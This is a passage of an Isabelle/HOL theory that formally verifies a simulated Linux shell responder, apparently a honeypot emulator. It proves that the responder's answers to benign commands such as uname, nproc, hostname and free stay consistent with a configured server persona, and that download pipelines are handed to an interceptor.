   rep_total r = length corpus \<and> rep_handled r = length (filter answered es) \<and>
   deferred_commands r = map (snd \<circ> snd) (filter (\<lambda>e. \<not> answered e) es) \<and>
   map_of (by_category r) cat =
     add_slot None (length (filter answered (of_category cat es))) (length (of_category cat es))"
  using cover_all_exact [of "\<lambda>i cmd. respond rc pe (hs i) cmd c \<noteq> None" 0 corpus empty_report cat]
  by (simp add: coverage_def Let_def empty_report_def)

text \<open>What a list of checks says of a check, by its name; the checks that are proved to pass.\<close>

definition verdict :: "check_result list \<Rightarrow> string \<Rightarrow> bool option" where
  "verdict rs name = map_option passed (find (\<lambda>r. chk_name r = name) rs)"

definition GATE :: "string list" where
  "GATE =
     [''uname -r in uname -a'', ''uname -r == persona kernel'', ''uname -m == arch'', ''nproc == persona ncpus'',
      ''hostname == /etc/hostname'', ''hostname == ctx.hostname'', ''whoami == effective user'',
      ''id www-data uid == /etc/passwd'', ''free stable across calls'', ''loadavg stable across calls'',
      ''download pipelines defer to the interceptor'']"

definition verdicts :: "check_result list \<Rightarrow> bool option list" where
  "verdicts rs = map (verdict rs) GATE"

lemma verdicts_append:
  "verdicts (xs @ ys) = map2 (\<lambda>a b. case a of None \<Rightarrow> b | Some r \<Rightarrow> Some r) (verdicts xs) (verdicts ys)"
proof -
  have "verdict (xs @ ys) n = (case verdict xs n of None \<Rightarrow> verdict ys n | Some r \<Rightarrow> Some r)" for n
    by (induction xs) (simp_all add: verdict_def)
  then show ?thesis by (simp add: verdicts_def GATE_def)
qed

lemmas gate_simps = verdicts_def GATE_def verdict_def new_check_def text_or_empty_def Let_def

lemma gate_sections:
  assumes "gate_context c" and ask: "\<And>i. ask i = shell_out rc pe (hs i) c"
  shows "verdicts (kernel_checks ask (ctx_persona c)) = replicate 3 (Some True) @ replicate 8 None"
    and "verdicts (cpu_checks ask (ctx_persona c)) = replicate 3 None @ Some True # replicate 7 None"
    and "verdicts (identity_checks ask c) = replicate 4 None @ replicate 4 (Some True) @ replicate 3 None"
    and "verdicts (stable_checks ask) = replicate 8 None @ [Some True, Some True, None]"
    and "verdicts (pipe_checks ask) = replicate 10 None @ [Some True]"
proof -
  have c: "files (ctx_world c) = []" "ctx_persona c \<in> set PERSONAS" using assms by (simp_all add: gate_context_def)
  have names: "py_strip (hostname c @ [nl]) = hostname c" "py_strip (ctx_user c @ [nl]) = ctx_user c"
    using assms by (simp_all add: gate_context_def strip_line)
  have cpus: "py_strip (str_of_nat (ncpus (ctx_persona c)) @ [nl]) = str_of_nat (ncpus (ctx_persona c))"
    using is_space_nl strip_digits str_of_nat_digits by (simp add: strip_by_snoc)
  obtain u v where una: "shell_out rc pe (hs 0) c ''uname -a'' = Some (u @ kernel (ctx_persona c) @ v)"
    using gate_answers(3) by blast
  have kern: "str_in (kernel (ctx_persona c)) (u @ kernel (ctx_persona c) @ v)" by (auto simp: str_in_iff)
  have free: "shell_out rc pe h c ''free -m'' = shell_out rc pe h' c ''free -m''" for h h'
    by (simp add: shell_out_def respond_reads [OF gate_reads(11)] DISPATCH_def h_free_def)
  show "verdicts (kernel_checks ask (ctx_persona c)) = replicate 3 (Some True) @ replicate 8 None"
    using kernel_line [OF c(2)] kern una by (simp add: ask gate_simps kernel_checks_def gate_answers numeral_eq_Suc)
  show "verdicts (cpu_checks ask (ctx_persona c)) = replicate 3 None @ Some True # replicate 7 None"
    using cpus by (simp add: ask gate_simps cpu_checks_def gate_answers numeral_eq_Suc)
  show "verdicts (identity_checks ask c) = replicate 4 None @ replicate 4 (Some True) @ replicate 3 None"
    using names www_data by (simp add: ask gate_simps identity_checks_def gate_answers gate_files [OF c(1)] numeral_eq_Suc)
  show "verdicts (stable_checks ask) = replicate 8 None @ [Some True, Some True, None]"
    using free by (simp add: ask gate_simps stable_checks_def gate_files [OF c(1)] numeral_eq_Suc)
  show "verdicts (pipe_checks ask) = replicate 10 None @ [Some True]"
    by (simp add: ask gate_simps pipe_checks_def shell_out_def downloads_deferred numeral_eq_Suc)
qed

lemma other_sections:
  "verdicts (memory_checks ask p) = replicate 11 None" "verdicts (system_checks ask p) = replicate 11 None"
  "verdicts (file_checks ask) = replicate 11 None"
  by (simp_all add: gate_simps memory_checks_def system_checks_def file_checks_def numeral_eq_Suc)

text \<open>The consistency gate holds of the responder whatever the clock reads at each command: in a session of a registered
  persona with no recorded files and names without blanks, the kernel, architecture, processor, host-name, user and
  password-file checks, the two stability checks and the new_check that downloads are left to the interceptor all pass.\<close>

lemma consistency_gate:
  assumes "gate_context c"
  shows "map (verdict (run_consistency rc pe hs c)) GATE = replicate (length GATE) (Some True)"
proof -
  have "verdicts (run_consistency rc pe hs c) = replicate 11 (Some True)"
    by (simp add: run_consistency_def Let_def verdicts_append gate_sections [OF assms refl] other_sections numeral_eq_Suc)
  then show ?thesis by (simp add: verdicts_def) (simp add: GATE_def)
qed

definition gate_example :: shell_context where
  "gate_example =
     \<lparr>ctx_persona = debian_12, boot_time = 0, ctx_world = new_world, ctx_cwd = ''/root'', login_user = ''root'',
      hostname = ''web-prod-01'', server_ip = ''203.0.113.10'', client_ip = ''198.51.100.23'', ctx_seed = ''fidelity-eval'',
      piped = False\<rparr>"


end
